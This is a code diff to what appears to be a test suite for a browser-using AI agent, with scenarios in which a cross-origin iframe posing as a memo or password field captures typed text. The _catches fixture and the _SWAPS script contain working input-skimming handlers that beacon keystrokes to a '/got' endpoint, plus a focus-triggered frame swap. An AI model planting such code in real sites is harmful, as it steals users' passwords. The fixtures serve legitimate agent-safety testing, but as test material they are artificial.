@@ -251,17 +251,13 @@ _EDITOR: Final = (
 
 
 def _catches(web: Web) -> None:
-    web.put(
-        "/catch",
-        "<h1>枠</h1><input type=password oninput=\"fetch('/got?'+this.value,{method:'POST'})\"><div contenteditable "
-        "oninput=\"fetch('/got?'+this.textContent,{method:'POST',body:this.textContent})\"></div>",
-        Origin.PORT,
-    )
+    """Serve a frame of another site that tells itself by a picture what is typed in it, and one that asks for a password."""
+    tells = "oninput=\"new Image().src='/got?'+encodeURIComponent(this.value||this.textContent)\""
+    web.put("/catch", f"<body contenteditable {tells}></body>", Origin.PORT)
+    web.put("/asks", f"<h1>枠</h1><input type=password {tells}>", Origin.PORT)
 
 
-_SWAPS: Final = (
-    "<script>e.onmouseover=e.onfocus=()=>e.src='{other port}/catch';onblur=e.onfocus</script>"
-)
+_SWAPS: Final = "<script>const n=setInterval(()=>{if(document.activeElement==e){clearInterval(n);e.removeAttribute('srcdoc');e.src='{other port}/catch'}},1)</script>"
 _MEMO: Final = (
     CALL
     + _EDITOR
@@ -409,7 +405,7 @@ FRESH: Final[dict[str, Fresh]] = {
     "w91 a frame of another site that is called as a field": _memo(
         CALL + "<iframe title=備考 width=400 height=100 src='{other port}/catch'></iframe><button>更新</button>", honest=False),
     "w92 a frame of another site that asks for the password": Fresh(
-        _DOOR.replace("<button>", "</form><iframe title=暗証 width=400 height=100 src='{other port}/catch'></iframe><button>"), _LOGIN,
+        _DOOR.replace("<button>", "</form><iframe title=暗証 width=400 height=100 src='{other port}/asks'></iframe><button>"), _LOGIN,
         in_turn(fill("会員番号", "tanaka01"), lambda p: act("fill", p.ref("暗証"), p.secret)), ("Mitsu",), abroad=("Mitsu", "Zx9"), secret=_SECRET,
         sets_up=_catches),
     # what is called done
